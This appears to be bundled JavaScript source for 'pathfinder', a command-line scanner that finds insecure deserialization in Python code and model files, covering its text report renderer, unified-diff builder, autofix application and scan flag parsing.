var UNSAFE_CHAR = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/g;
function sanitizeForTerminal(text) {
  return text.replace(UNSAFE_CHAR, (ch) => {
    const code3 = ch.charCodeAt(0);
    return code3 <= 255 ? `\\x${code3.toString(16).padStart(2, "0")}` : `\\u{${code3.toString(16)}}`;
  });
}

// src/report/code-frame.ts
var MAX_REGION_LINES = 6;
var MAX_FRAME_LINE_WIDTH = 200;
var LEAD_BEFORE_REGION = 40;
var CUT = "...";
function renderCodeFrame(location, source, p) {
  const startLine = Math.max(1, location.line);
  const endLine = Math.max(startLine, location.endLine);
  const frame = source && startLine <= source.length ? linesFromSource(source, startLine, endLine) : linesFromSnippet(location.snippet, startLine, endLine);
  if (frame.length === 0) return [];
  const { shown, omitted } = shortenRegion(frame, endLine);
  const windowStart = horizontalWindow(shown, location.column);
  const width = String(Math.max(...shown.map((l) => l.number))).length;
  const blankGutter = `  ${" ".repeat(width)} ${p.paint("|", "dim")}`;
  const out2 = [];
  let previous;
  for (const line of shown) {
    if (previous !== void 0 && line.number > previous + 1) {
      out2.push(`${blankGutter} ${p.paint(`${CUT} ${omitted} more line${omitted === 1 ? "" : "s"}`, "dim")}`);
    }
    previous = line.number;
    const marker = line.inRegion ? p.paint(">", "bold", "red") : " ";
    const gutter = p.paint(`${String(line.number).padStart(width)} |`, "dim");
    out2.push(`${marker} ${gutter} ${clip(line.text, windowStart)}`.trimEnd());
    if (line.inRegion) {
      const { padding, carets } = underline(line, location, startLine, endLine, windowStart);
      out2.push(`${blankGutter} ${padding}${p.paint("^".repeat(carets), "red")}`);
    }
  }
  return out2;
}
function linesFromSource(source, startLine, endLine) {
  const last = Math.min(endLine, source.length);
  const line = (n, inRegion) => ({
    number: n,
    text: (source[n - 1] ?? "").replace(/\r$/, ""),
    inRegion
  });
  const out2 = [];
  if (startLine > 1) out2.push(line(startLine - 1, false));
  for (let n = startLine; n <= last; n++) out2.push(line(n, true));
  if (last < source.length) out2.push(line(last + 1, false));
  return out2;
}
function linesFromSnippet(snippet, startLine, endLine) {
  if (snippet.trim() === "") return [];
  const lines = snippet.split(/\r\n|\r|\n/);
  const count = Math.min(lines.length, endLine - startLine + 1);
  return lines.slice(0, count).map((text, i2) => ({ number: startLine + i2, text, inRegion: true }));
}
function shortenRegion(frame, endLine) {
  const region2 = frame.filter((l) => l.inRegion);
  if (region2.length <= MAX_REGION_LINES) return { shown: frame, omitted: 0 };
  const keep = new Set(region2.slice(0, MAX_REGION_LINES - 1).map((l) => l.number));
  keep.add(region2[region2.length - 1]?.number ?? endLine);
  return { shown: frame.filter((l) => !l.inRegion || keep.has(l.number)), omitted: region2.length - keep.size };
}
function horizontalWindow(lines, column) {
  if (lines.every((l) => l.text.length <= MAX_FRAME_LINE_WIDTH)) return 0;
  const regionStart = Math.max(0, column - 1);
  return regionStart < MAX_FRAME_LINE_WIDTH - LEAD_BEFORE_REGION ? 0 : regionStart - LEAD_BEFORE_REGION;
}
function clip(text, windowStart) {
  const head = windowStart > 0 ? CUT : "";
  const tail = text.length > windowStart + MAX_FRAME_LINE_WIDTH ? CUT : "";
  return head + sanitizeForTerminal(text.slice(windowStart, windowStart + MAX_FRAME_LINE_WIDTH)) + tail;
}
function underline(line, location, startLine, endLine, windowStart) {
  const text = line.text;
  const firstNonBlank = text.search(/\S/) + 1 || 1;
  const from = clamp2(line.number === startLine ? location.column : firstNonBlank, 1, text.length + 1) - 1;
  const to = clamp2(line.number === endLine ? location.endColumn : text.length + 1, from + 1, text.length + 1) - 1;
  const windowEnd = windowStart + MAX_FRAME_LINE_WIDTH;
  const visibleFrom = clamp2(from, windowStart, windowEnd);
  const visibleTo = clamp2(to, visibleFrom, windowEnd);
  const head = windowStart > 0 ? CUT : "";
  const before = head + sanitizeForTerminal(text.slice(windowStart, visibleFrom));
  const marked = sanitizeForTerminal(text.slice(visibleFrom, visibleTo));
  return { padding: before.replace(/[^\t]/g, " "), carets: Math.max(1, marked.length) };
}
function clamp2(n, lo, hi) {
  return Math.min(Math.max(Number.isFinite(n) ? Math.trunc(n) : lo, lo), hi);
}

// src/report/text.ts
var MAX_ARTIFACT_SNIPPET_LINES = 8;
var MAX_LISTED_ERRORS = 20;
function renderText(report, options) {
  const p = painter(options.color);
  const rules = new Map(report.rules.map((r) => [r.id, r]));
  const findings = visibleFindings(report, options.showSuppressed);
  const blocks = findings.map((f) => renderFinding(f, rules.get(f.ruleId), options, p).join("\n"));
  blocks.push(renderSummary(report, p).join("\n"));
  return blocks.join("\n\n") + "\n";
}
function renderFinding(finding, rule, options, p) {
  const loc = finding.location;
  const position = `${sanitizeForTerminal(loc.file)}:${loc.line}:${loc.column}`;
  const header = [
    p.paint(position, "bold"),
    p.paint(finding.severity.toUpperCase(), ...SEVERITY_STYLES[finding.severity]),
    p.paint(finding.ruleId, "cyan"),
    sanitizeForTerminal(finding.ruleName)
  ].join("  ");
  const suppression = finding.suppressed ? "  " + p.paint(`[suppressed by ${finding.suppressed.kind}: ${oneLine(finding.suppressed.justification)}]`, "dim") : "";
  const out2 = [header + suppression];
  out2.push(...indentLines(finding.message, "  "));
  if (isArtifactFinding(finding)) {
    const where = [
      loc.member !== void 0 ? `member: ${sanitizeForTerminal(loc.member)}` : void 0,
      loc.offset !== void 0 ? `offset: ${loc.offset}` : void 0
    ].filter((s) => s !== void 0);
    out2.push("  " + p.paint(where.join("  "), "dim"));
    const lines = loc.snippet.split(/\r\n|\r|\n/).filter((l) => l.trim() !== "");
    for (const line of lines.slice(0, MAX_ARTIFACT_SNIPPET_LINES)) {
      const clipped = line.length > MAX_FRAME_LINE_WIDTH ? line.slice(0, MAX_FRAME_LINE_WIDTH) + "..." : line;
      out2.push(`  ${p.paint("|", "dim")} ${sanitizeForTerminal(clipped)}`);
    }
    if (lines.length > MAX_ARTIFACT_SNIPPET_LINES) {
      out2.push(`  ${p.paint("|", "dim")} ${p.paint(`... ${lines.length - MAX_ARTIFACT_SNIPPET_LINES} more lines`, "dim")}`);
    }
  } else {
    const frame = renderCodeFrame(loc, options.sourceLines?.(loc.file), p);
    if (frame.length > 0) out2.push("", ...frame.map((l) => "  " + l), "");
  }
  if (finding.trace && finding.trace.length > 0) {
    out2.push("  Trace:");
    finding.trace.forEach((step, i2) => {
      const at = `${sanitizeForTerminal(step.location.file)}:${step.location.line}:${step.location.column}`;
      out2.push(`    ${i2 + 1}. ${p.paint(at, "dim")}  ${oneLine(step.message)}`);
    });
  }
  if (rule?.docs.fixHint) out2.push("  " + p.paint("Fix:", "bold", "green") + " " + oneLine(rule.docs.fixHint));
  if (finding.fix) out2.push("  " + p.paint("Autofix:", "green") + " " + oneLine(finding.fix.description));
  while (out2[out2.length - 1] === "") out2.pop();
  return out2;
}
function renderSummary(report, p) {
  const summary = summarize(report);
  const out2 = [];
  const scanned = `Scanned ${plural2(report.scan.filesScanned, "file")} in ${formatDuration2(report.scan.durationMs)}`;
  out2.push(`${scanned} with ${plural2(report.scan.rulesExecuted.length, "rule")}.`);
  const suppressedNote = summary.suppressed > 0 ? `, ${summary.suppressed} suppressed` : "";
  if (summary.total === 0) {
    out2.push(p.paint("No findings", "bold", "green") + `${suppressedNote}.`);
  } else {
    const counts = SEVERITIES.map((s) => {
      const text = `${s} ${summary.bySeverity[s]}`;
      return summary.bySeverity[s] > 0 ? p.paint(text, ...SEVERITY_STYLES[s]) : text;
    }).join(", ");
    out2.push(`${p.paint(plural2(summary.total, "finding"), "bold")} (${counts})${suppressedNote}.`);
  }
  if (report.errors.length > 0) {
    const errorCount = report.errors.filter((e) => e.level === "error").length;
    const warningCount = report.errors.length - errorCount;
    out2.push(`${plural2(warningCount, "warning")}, ${plural2(errorCount, "error")}:`);
    for (const error of report.errors.slice(0, MAX_LISTED_ERRORS)) out2.push("  " + renderError(error, p));
    if (report.errors.length > MAX_LISTED_ERRORS) {
      out2.push(`  ... and ${report.errors.length - MAX_LISTED_ERRORS} more`);
    }
  }
  return out2;
}
function renderError(error, p) {
  const level = error.level === "error" ? p.paint("error  ", "red") : p.paint("warning", "yellow");
  let where = sanitizeForTerminal(error.file);
  if (error.line !== void 0) where += `:${error.line}` + (error.column !== void 0 ? `:${error.column}` : "");
  return `${level}  ${where}  ${error.kind}: ${oneLine(error.message)}`;
}
function isArtifactFinding(finding) {
  return finding.location.member !== void 0 || finding.location.offset !== void 0;
}
function indentLines(text, indent) {
  return text.split(/\r\n|\r|\n/).map((line) => (indent + sanitizeForTerminal(line)).trimEnd());
}
function oneLine(text) {
  return sanitizeForTerminal(text.replace(/\s*(\r\n|\r|\n)\s*/g, " ").trim());
}
function plural2(n, noun) {
  return `${n} ${noun}${n === 1 ? "" : "s"}`;
}
function formatDuration2(ms) {
  if (!Number.isFinite(ms) || ms < 0) return "an unknown time";
  if (ms < 1e3) return `${Math.round(ms)} ms`;
  if (ms < 6e4) return `${(ms / 1e3).toFixed(2)} s`;
  const totalSeconds = Math.round(ms / 1e3);
  return `${Math.floor(totalSeconds / 60)} min ${String(totalSeconds % 60).padStart(2, "0")} s`;
}

// src/report/index.ts
var OUTPUT_FORMATS = ["text", "json", "sarif", "csv", "gitlab-sast", "codeclimate", "html"];
function renderReport(format, report, options) {
  switch (format) {
    case "text":
      return renderText(report, options);
    case "json":
      return renderJson(report, options);
    case "sarif":
      return renderSarif(report);
    case "csv":
      return renderCsv(report, options);
    case "gitlab-sast":
      return renderGitLabSast(report, options);
    case "codeclimate":
      return renderCodeClimate(report, options);
    case "html":
      return renderHtml(report, options);
    default: {
      const unknown = format;
      throw new Error(`Unknown output format: ${String(unknown)}`);
    }
  }
}

// src/cli/commands/scan.ts
import { readFileSync as readFileSync3, statSync as statSync2 } from "node:fs";
import { join as join7 } from "node:path";
import { parseArgs } from "node:util";

// src/project/fix.ts
import { createHash } from "node:crypto";
import { readFile as readFile4, stat as stat3, writeFile as writeFile2 } from "node:fs/promises";
import { basename as basename3, isAbsolute as isAbsolute2, relative as relative3, resolve as resolve5 } from "node:path";

// src/project/unified-diff.ts
var MAX_EDIT_DISTANCE = 500;
function unifiedDiff(oldText, newText, labels, context = 3) {
  if (oldText === newText) return "";
  const a = splitLines(oldText);
  const b = splitLines(newText);
  const ops = editScript(a, b);
  const out2 = [`--- ${labels.from}
`, `+++ ${labels.to}
`];
  for (const hunk of hunks(ops, context)) out2.push(...hunk);
  return out2.join("");
}
function splitLines(text) {
  const lines = [];
  let start2 = 0;
  for (let nl = text.indexOf("\n"); nl >= 0; nl = text.indexOf("\n", start2)) {
    lines.push(text.slice(start2, nl + 1));
    start2 = nl + 1;
  }
  if (start2 < text.length) lines.push(text.slice(start2));
  return lines;
}
function editScript(a, b) {
  let prefix = 0;
  while (prefix < a.length && prefix < b.length && a[prefix] === b[prefix]) prefix++;
  let suffix = 0;
  while (suffix < a.length - prefix && suffix < b.length - prefix && a[a.length - 1 - suffix] === b[b.length - 1 - suffix]) suffix++;
  const middle = myers(a.slice(prefix, a.length - suffix), b.slice(prefix, b.length - suffix));
  return [
    ...a.slice(0, prefix).map((text) => ({ kind: " ", text })),
    ...middle,
    ...a.slice(a.length - suffix).map((text) => ({ kind: " ", text }))
  ];
}
function myers(a, b) {
  const n = a.length;
  const m = b.length;
  const max = Math.min(n + m, MAX_EDIT_DISTANCE);
  const offset = max + 1;
  let v = new Int32Array(2 * max + 3);
  const trace = [];
  for (let d = 0; d <= max; d++) {
    trace.push(v.slice());
    const next = v.slice();
    for (let k = -d; k <= d; k += 2) {
      let x = k === -d || k !== d && v[offset + k - 1] < v[offset + k + 1] ? v[offset + k + 1] : v[offset + k - 1] + 1;
      let y = x - k;
      while (x < n && y < m && a[x] === b[y]) {
        x++;
        y++;
      }
      next[offset + k] = x;
      if (x >= n && y >= m) return backtrack(trace, a, b, d, offset);
    }
    v = next;
  }
  return [...a.map((text) => ({ kind: "-", text })), ...b.map((text) => ({ kind: "+", text }))];
}
function backtrack(trace, a, b, dFinal, offset) {
  const ops = [];
  let x = a.length;
  let y = b.length;
  for (let d = dFinal; d > 0; d--) {
    const v = trace[d];
    const k = x - y;
    const down = k === -d || k !== d && v[offset + k - 1] < v[offset + k + 1];
    const prevK = down ? k + 1 : k - 1;
    const prevX = v[offset + prevK];
    const prevY = prevX - prevK;
    while (x > prevX && y > prevY) {
      ops.push({ kind: " ", text: a[--x] });
      y--;
    }
    if (down) ops.push({ kind: "+", text: b[--y] });
    else ops.push({ kind: "-", text: a[--x] });
  }
  while (x > 0 && y > 0) {
    ops.push({ kind: " ", text: a[--x] });
    y--;
  }
  return ops.reverse();
}
function hunks(ops, context) {
  const out2 = [];
  const changed = ops.map((op, i3) => op.kind === " " ? -1 : i3).filter((i3) => i3 >= 0);
  let i2 = 0;
  while (i2 < changed.length) {
    let end = changed[i2];
    let j = i2;
    while (j + 1 < changed.length && changed[j + 1] - end <= 2 * context) end = changed[++j];
    const from = Math.max(0, changed[i2] - context);
    const to = Math.min(ops.length - 1, end + context);
    out2.push(renderHunk(ops, from, to));
    i2 = j + 1;
  }
  return out2;
}
function renderHunk(ops, from, to) {
  let oldStart = 1;
  let newStart = 1;
  for (let i2 = 0; i2 < from; i2++) {
    if (ops[i2].kind !== "+") oldStart++;
    if (ops[i2].kind !== "-") newStart++;
  }
  let oldCount = 0;
  let newCount = 0;
  const lines = [];
  for (let i2 = from; i2 <= to; i2++) {
    const op = ops[i2];
    if (op.kind !== "+") oldCount++;
    if (op.kind !== "-") newCount++;
    lines.push(op.kind + op.text + (op.text.endsWith("\n") ? "" : "\n\\ No newline at end of file\n"));
  }
  const range = (start2, count) => count === 0 ? `${start2 - 1},0` : count === 1 ? `${start2}` : `${start2},${count}`;
  return [`@@ -${range(oldStart, oldCount)} +${range(newStart, newCount)} @@
`, ...lines];
}

// src/project/fix.ts
function sourceDigest(bytes) {
  return createHash("sha256").update(bytes).digest("hex");
}
function isFixable(f) {
  return !f.suppressed && f.fix !== void 0 && f.fix.edits.length > 0;
}
async function applyFixes(findings, options) {
  const result2 = { fixed: [], skipped: [], files: [], diff: "" };
  const byFile = /* @__PURE__ */ new Map();
  for (const f of findings.filter(isFixable)) {
    const list = byFile.get(f.location.file) ?? [];
    list.push(f);
    byFile.set(f.location.file, list);
  }
  const target = resolve5(options.target);
  const targetIsDir = (await stat3(target)).isDirectory();
  const diffs = [];
  for (const file of [...byFile.keys()].sort()) {
    const list = byFile.get(file);
    const skipAll = (reason2) => result2.skipped.push(...list.map((finding) => ({ finding, reason: reason2 })));
    const abs = targetIsDir ? resolve5(target, file) : file === basename3(target) ? target : void 0;
    const rel = abs && relative3(targetIsDir ? target : resolve5(target, ".."), abs);
    if (!abs || !rel || rel.startsWith("..") || isAbsolute2(rel)) {
      skipAll("the file is outside the scanned directory");
      continue;
    }
    let bytes;
    try {
      bytes = await readFile4(abs);
    } catch (e) {
      skipAll(`cannot read the file: ${e.code ?? e.message}`);
      continue;
    }
    const expected = options.scanned?.get(file);
    if (expected !== void 0 && expected !== sourceDigest(bytes)) {
      skipAll("the file changed since the scan; scan again");
      continue;
    }
    const plan = planFileFixes(bytes, list);
    result2.skipped.push(...plan.skipped);
    if (!plan.output) continue;
    if (!options.dryRun) {
      try {
        await writeFile2(abs, plan.output);
      } catch (e) {
        skipAll(`cannot write the file: ${e.code ?? e.message}`);
        continue;
      }
    }
    result2.fixed.push(...plan.fixed);
    result2.files.push(file);
    diffs.push(unifiedDiff(plan.codec.decode(bytes), plan.codec.decode(plan.output), { from: `a/${file}`, to: `b/${file}` }));
  }
  result2.diff = diffs.join("");
  return result2;
}
function planFileFixes(bytes, findings) {
  const codec = codecOf(bytes);
  const plan = { fixed: [], skipped: [], codec };
  if (typeof codec.problem === "string") {
    plan.skipped.push(...findings.map((finding) => ({ finding, reason: codec.problem })));
    return plan;
  }
  const source = new SourceLines(bytes, codec);
  const accepted = [];
  const ordered = [...findings].sort((a, b) => a.location.line - b.location.line || a.location.column - b.location.column);
  for (const finding of ordered) {
    const edits = byteEdits(finding, source);
    if (typeof edits === "string") {
      plan.skipped.push({ finding, reason: edits });
      continue;
    }
    if (edits.every((e) => accepted.some((a) => sameEdit(a, e)))) {
      plan.fixed.push(finding);
      continue;
    }
    const clash = edits.find((e) => accepted.some((a) => overlaps(a, e)));
    if (clash) {
      const other = accepted.find((a) => overlaps(a, clash)).finding;
      plan.skipped.push({ finding, reason: `its edit overlaps the fix of ${other.ruleId} at line ${other.location.line}; run --fix again` });
      continue;
    }
    accepted.push(...edits);
    plan.fixed.push(finding);
  }
  if (accepted.length) plan.output = splice(bytes, accepted);
  return plan;
}
function byteEdits(finding, source) {
  const loc = finding.location;
  const lastSnippetLine = loc.line + loc.snippet.split("\n").length - 1;
  if (source.text(loc.line, lastSnippetLine) !== loc.snippet) {
    return `the code at line ${loc.line} no longer matches the scan; scan again`;
  }
  const out2 = [];
  for (const edit of finding.fix.edits) {
    const start2 = source.offset(edit.line, edit.column);
    const end = source.offset(edit.endLine, edit.endColumn);
    if (start2 === void 0 || end === void 0 || end < start2) return `its edit ${describe2(edit)} is outside the file`;
    const bytes = source.codec.encode(source.crlf ? edit.newText.replace(/(?<!\r)\n/g, "\r\n") : edit.newText);
    if (!bytes) return `its replacement text cannot be written in the file's encoding (${source.codec.name})`;
    const e = { start: start2, end, bytes, finding };
    if (out2.some((o) => overlaps(o, e))) return "its own edits overlap";
    out2.push(e);
  }
  return out2;
}
function overlaps(a, b) {
  if (a.start === b.start && (a.start === a.end || b.start === b.end)) return a.start === a.end && b.start === b.end;
  return a.start < b.end && b.start < a.end;
}
function sameEdit(a, b) {
  return a.start === b.start && a.end === b.end && Buffer.compare(a.bytes, b.bytes) === 0;
}
function splice(bytes, edits) {
  const sorted = [...edits].sort((a, b) => a.start - b.start || a.end - b.end);
  const parts2 = [];
  let cursor = 0;
  for (const e of sorted) {
    parts2.push(bytes.subarray(cursor, e.start), e.bytes);
    cursor = e.end;
  }
  parts2.push(bytes.subarray(cursor));
  return Buffer.concat(parts2);
}
function describe2(e) {
  return `${e.line}:${e.column}-${e.endLine}:${e.endColumn}`;
}
var SINGLE_BYTE = /^(windows-125\d|windows-874|iso-8859-\d+|koi8-[ru]|ibm866|macintosh|x-mac-cyrillic)$/;
function codecOf(bytes) {
  const label = declaredDecoder(bytes)?.encoding ?? "utf-8";
  if (label === "utf-8") {
    const bom = bytes[0] === 239 && bytes[1] === 187 && bytes[2] === 191 ? 3 : 0;
    const strict = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true });
    let problem2;
    try {
      strict.decode(bytes);
    } catch {
      problem2 = "the file is not valid UTF-8, so its columns cannot be mapped to bytes safely";
    }
    return {
      name: "utf-8",
      bom,
      ...problem2 ? { problem: problem2 } : {},
      decode: (b) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(b),
      encode: (text) => new TextEncoder().encode(text),
      byteLength: (text) => Buffer.byteLength(text, "utf8")
    };
  }
  const decoder = new TextDecoder(label);
  return {
    name: label,
    bom: 0,
    ...SINGLE_BYTE.test(label) ? {} : { problem: `fixes are not applied to files in the ${label} encoding` },
    decode: (b) => decoder.decode(b),
    encode: (text) => /^[\x00-\x7f]*$/.test(text) ? Uint8Array.from(text, (c) => c.charCodeAt(0)) : void 0,
    byteLength: (text) => text.length
  };
}
var SourceLines = class {
  constructor(bytes, codec) {
    this.bytes = bytes;
    this.codec = codec;
    let start2 = codec.bom;
    for (let i2 = start2; i2 <= bytes.length; i2++) {
      if (i2 === bytes.length || bytes[i2] === 10) {
        this.starts.push(start2);
        this.ends.push(i2 > start2 && bytes[i2 - 1] === 13 ? i2 - 1 : i2);
        start2 = i2 + 1;
        if (i2 === bytes.length) break;
      }
    }
    const firstBreak = bytes.indexOf(10);
    this.crlf = firstBreak > 0 && bytes[firstBreak - 1] === 13;
  }
  bytes;
  codec;
  starts = [];
  ends = [];
  decoded = /* @__PURE__ */ new Map();
  crlf;
  /** The text of 1-based lines `from..to`, joined by `\n`, as the scanner's snippets hold them. */
  text(from, to) {
    if (from < 1 || to > this.starts.length) return void 0;
    const lines = [];
    for (let line = from; line <= to; line++) lines.push(this.line(line).replace(/\r/g, ""));
    return lines.join("\n");
  }
  /** Byte offset of a 1-based line and UTF-16 column; undefined when outside the line. */
  offset(line, column) {
    if (!Number.isInteger(line) || !Number.isInteger(column) || line < 1 || line > this.starts.length || column < 1) return void 0;
    const text = this.line(line);
    if (column - 1 > text.length) return void 0;
    const prefix = text.slice(0, column - 1);
    if (/[\ud800-\udbff]$/.test(prefix)) return void 0;
    return this.starts[line - 1] + this.codec.byteLength(prefix);
  }
  line(line) {
    let text = this.decoded.get(line);
    if (text === void 0) {
      text = this.codec.decode(this.bytes.subarray(this.starts[line - 1], this.ends[line - 1]));
      this.decoded.set(line, text);
    }
    return text;
  }
};

// src/cli/scan-flags.ts
import { existsSync as existsSync2 } from "node:fs";
import { isAbsolute as isAbsolute3, join as join6, relative as relative4, resolve as resolve6 } from "node:path";

// src/cli/version.ts
import { readFileSync as readFileSync2 } from "node:fs";
var cached2;
function packageJson() {
  if (!cached2) {
    for (const rel of ["../../../package.json", "./package.json"]) {
      try {
        cached2 = JSON.parse(readFileSync2(new URL(rel, import.meta.url), "utf8"));
        break;
      } catch {
      }
    }
    cached2 ??= { version: "0.0.0", homepage: "" };
  }
  return cached2;
}
function toolInfo() {
  const pkg = packageJson();
  return { name: "pathfinder", version: pkg.version, informationUri: pkg.homepage };
}

// src/cli/scan-flags.ts
var SCAN_FLAGS = {
  project: { type: "string", short: "p" },
  ruleset: { type: "string", multiple: true },
  output: { type: "string", short: "o" },
  "output-file": { type: "string", short: "f" },
  "fail-on": { type: "string" },
  "skip-tests": { type: "boolean" },
  exclude: { type: "string", multiple: true },
  include: { type: "string", multiple: true },
  "no-gitignore": { type: "boolean" },
  "max-file-size": { type: "string" },
  "show-suppressed": { type: "boolean" },
  jobs: { type: "string", short: "j" },
  config: { type: "string" },
  "no-config": { type: "boolean" },
  "pickle-policy": { type: "string" },
  "pickle-allow": { type: "string", multiple: true },
  verbose: { type: "boolean", short: "v" },
  quiet: { type: "boolean", short: "q" },
  help: { type: "boolean", short: "h" }
};
var SCAN_FLAGS_HELP = `
Scan options:
  -p, --project DIR        Project directory to scan (default: current directory)
  [PATH ...]               Only scan these files or directories inside the project (pre-commit passes staged files)
      --ruleset R          Rules to run; repeatable. python/<RULE-ID>, python/<bundle> or python/all;
                           artifact/all or artifact/<PICKLE-ARTIFACT-ID> for model/data files
                           (default: every rule). See: pathfinder rules list
  -o, --output FORMAT      text (default for scan), json, sarif, csv, html, gitlab-sast, codeclimate
  -f, --output-file FILE   Write the report to FILE instead of standard output
      --fail-on SEVERITIES Exit 1 when a finding is at or above the lowest severity listed,
                           e.g. --fail-on critical,high (values: critical, high, medium, low)
      --skip-tests         Skip test files and directories (test_*.py, *_test.py, conftest.py, tests/)
      --exclude GLOB       Skip files or directories matching GLOB; repeatable
      --include GLOB       Only scan files matching GLOB; repeatable
      --no-gitignore       Do not honour .gitignore files
      --max-file-size SIZE Skip files larger than SIZE (default 5MB; accepts B, KB, MB)
      --show-suppressed    Also list findings suppressed by inline comments
  -j, --jobs N             Worker threads besides the main thread (default: automatic, one per extra core
                           for large scans; 0 = main thread only)
      --config FILE        Read settings from FILE (a pathfinder.toml, or a pyproject.toml with [tool.pathfinder]).
                           Default: the nearest pathfinder.toml, .pathfinder.toml or pyproject.toml with
                           [tool.pathfinder], looking in the project directory and then its parents
      --no-config          Ignore every configuration file
      --pickle-policy MODE Model/data files (.pkl, .pt, .joblib, .npy, ...): denylist (default) reports
                           dangerous globals; allowlist also reports every global not known to be safe
      --pickle-allow GLOBAL Trust a global in allowlist mode (module.Name or module.*); repeatable
  -v, --verbose            Print each warning and timing details on stderr
  -q, --quiet              No progress or summary on stderr
  -h, --help               Show this help`;
var DEFAULT_MAX_FILE_SIZE = 5 * 1024 * 1024;
function scanOptionsFrom(values, positionals, io) {
  if (values.config !== void 0 && values["no-config"]) throw new CliUsageError("--config and --no-config cannot be used together");
  const project = resolve6(io.cwd, values.project ?? ".");
  const include = [...values.include ?? []];
  for (const p of positionals) {
    const fromCwd = isAbsolute3(p) ? p : resolve6(io.cwd, p);
    const abs = existsSync2(fromCwd) ? fromCwd : resolve6(project, p);
    const rel = relative4(project, abs).split("\\").join("/");
    if (rel.startsWith("..")) throw new CliUsageError(`path "${p}" is outside the project directory ${project}`);
    include.push(rel === "" ? "**" : rel, rel === "" ? "**" : join6(rel, "**").split("\\").join("/"));
  }
  return {
    target: project,
    rulesets: values.ruleset ?? [],
    include,
    exclude: values.exclude ?? [],
    skipTests: values["skip-tests"] ?? false,
    gitignore: !values["no-gitignore"],
    maxFileSize: values["max-file-size"] !== void 0 ? parseSize2(values["max-file-size"]) : DEFAULT_MAX_FILE_SIZE,
    jobs: values.jobs !== void 0 ? parseJobs(values.jobs) : void 0,
    tool: toolInfo(),
    config: loadConfig({ project, explicit: values.config, disabled: values["no-config"], cwd: io.cwd }),
    pickle: pickleOptionsFrom(values)
  };
}
function pickleOptionsFrom(values) {
  const policy = (values["pickle-policy"] ?? "denylist").toLowerCase();
  if (policy !== "denylist" && policy !== "allowlist") {
    throw new CliUsageError(`--pickle-policy: expected denylist or allowlist, got "${values["pickle-policy"]}"`);
  }
  const allowGlobals = (values["pickle-allow"] ?? []).flatMap((v) => v.split(",")).map((v) => v.trim()).filter(Boolean);
  for (const global2 of allowGlobals) {
    if (!/^[A-Za-z_][\w]*(\.[A-Za-z_][\w]*)*(\.\*)?$/.test(global2)) {
      throw new CliUsageError(`--pickle-allow: "${global2}" is not a dotted global name (module.Name or module.*)`);
    }
  }
  return { policy, allowGlobals };
}
function parseFailOn(value) {
  if (value === void 0) return void 0;
  const parts2 = value.split(",").map((s) => s.trim().toLowerCase()).filter(Boolean);
  if (!parts2.length) throw new CliUsageError(`--fail-on needs a severity: ${SEVERITIES.join(", ")}`);
  for (const p of parts2) {
    if (!isSeverity(p)) throw new CliUsageError(`--fail-on: unknown severity "${p}" (use ${SEVERITIES.join(", ")})`);
  }
  return [...SEVERITIES].reverse().find((s) => parts2.includes(s));
}
function parseSize2(text) {
  const m = /^\s*(\d+(?:\.\d+)?)\s*(b|k|kb|kib|m|mb|mib|g|gb|gib)?\s*$/i.exec(text);
  if (!m) throw new CliUsageError(`--max-file-size: cannot read "${text}" (examples: 500000, 512KB, 5MB)`);
  const unit = (m[2] ?? "b").toLowerCase()[0];
  const factor = unit === "k" ? 1024 : unit === "m" ? 1024 ** 2 : unit === "g" ? 1024 ** 3 : 1;
  return Math.floor(Number(m[1]) * factor);
}
function parseJobs(text) {
  const n = Number(text);
  if (!Number.isInteger(n) || n < 0 || n > 64) throw new CliUsageError(`--jobs: expected a whole number from 0 to 64, got "${text}"`);
  return n;
}

// src/cli/terminal.ts
function useColor(stream, env) {
  if (env.NO_COLOR !== void 0 && env.NO_COLOR !== "") return false;
  if (env.FORCE_COLOR !== void 0 && env.FORCE_COLOR !== "0" && env.FORCE_COLOR !== "false") return true;
  return Boolean(stream.isTTY) && env.TERM !== "dumb";
}
var Progress = class {
  constructor(io, enabled) {
    this.io = io;
    this.enabled = enabled;
  }
  io;
  enabled;
  lastWidth = 0;
  update(text) {
    if (!this.enabled || !this.io.stderr.isTTY) return;
    const line = text.slice(0, 100);
    this.io.stderr.write(`\r${line}${" ".repeat(Math.max(0, this.lastWidth - line.length))}`);
    this.lastWidth = line.length;
  }
  done() {
    if (this.enabled && this.io.stderr.isTTY && this.lastWidth) this.io.stderr.write(`\r${" ".repeat(this.lastWidth)}\r`);
    this.lastWidth = 0;
  }
};

// src/cli/commands/scan.ts
var FIX_FLAGS = {
  fix: { type: "boolean" },
  "dry-run": { type: "boolean" }
};
var FIX_FLAGS_HELP = `
Fix options:
      --fix                Apply the automatic fixes some findings carry (e.g. yaml.load -> yaml.safe_load),
                           then report the findings that remain. Files changed since the scan are left alone;
                           overlapping fixes are skipped (run --fix again). What was fixed is listed on stderr
      --dry-run            With --fix: print the changes as a unified diff on stdout and change nothing
                           (the report is only written with --output-file)`;
var scanCommand = {
  name: "scan",
  summary: "Scan a project for insecure deserialization",
  usage: `Usage: pathfinder scan [options] [PATH ...]

Scans Python source (and, where supported, model/data files) for insecure deserialization (CWE-502).
Exit codes: 0 success (also with findings unless --fail-on), 1 a finding at or above --fail-on,
2 usage or runtime error.

Examples:
  pathfinder scan --ruleset python/PYTHON-LANG-SEC-040 --project .
  pathfinder scan -p . -o sarif -f results.sarif --fail-on high
  pathfinder scan --fix --dry-run > fixes.diff
  pathfinder scan --config ci/pathfinder.toml

Configuration (pathfinder.toml, or [tool.pathfinder] in pyproject.toml):
  exclude = ["legacy/**"]              # relative to the configuration file
  disable = ["PYTHON-ML-SEC-001"]
  [rules.PYTHON-LANG-SEC-040]          # [tool.pathfinder.rules.PYTHON-LANG-SEC-040] in pyproject.toml
  extra-sinks = ["myapp.cache.load_blob"]
  severity = "critical"
${SCAN_FLAGS_HELP}
${FIX_FLAGS_HELP}`,
  async run(argv, io) {
    const { values, positionals } = parseArgs({ args: argv, options: { ...SCAN_FLAGS, ...FIX_FLAGS }, allowPositionals: true, strict: true });
    if (values.help) {
      io.stdout.write(this.usage + "\n");
      return 0;
    }
    if (values["dry-run"] && !values.fix) throw new CliUsageError("--dry-run only works together with --fix");
    const format = parseFormat(values.output, OUTPUT_FORMATS);
    const failOn = parseFailOn(values["fail-on"]);
    const options = scanOptionsFrom(values, positionals, io);
    const digests = /* @__PURE__ */ new Map();
    if (values.fix) options.onSourceRead = (file, bytes) => digests.set(file.relPath, sourceDigest(bytes));
    let report = await runScan(options, values, io);
